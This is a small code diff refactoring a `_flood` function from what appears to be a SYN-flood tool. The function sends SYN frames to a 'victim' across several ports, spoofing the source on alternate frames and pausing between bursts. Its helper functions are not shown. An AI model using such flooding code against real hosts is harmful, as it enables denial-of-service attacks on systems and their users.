@@ -130,10 +130,9 @@ def _ports(kind: str, given: Sequence[int]) -> Iterator[int]:
 
 
 def _flood(kind: str, victim: str, ports: Sequence[int]) -> None:
-    frames, count = _Frames(victim), 0
-    for port in _ports(kind, ports):
-        frames.syn(port, spoofed=kind == "syn" and count % 2 == 1)
-        count += 1
+    frames = _Frames(victim)
+    for count, port in enumerate(_ports(kind, ports), 1):
+        frames.syn(port, spoofed=kind == "syn" and count % 2 == 0)
         if count == _BURST:
             print("ready", flush=True)
         if count % _BURST == 0 and _over(_PAUSE_S):
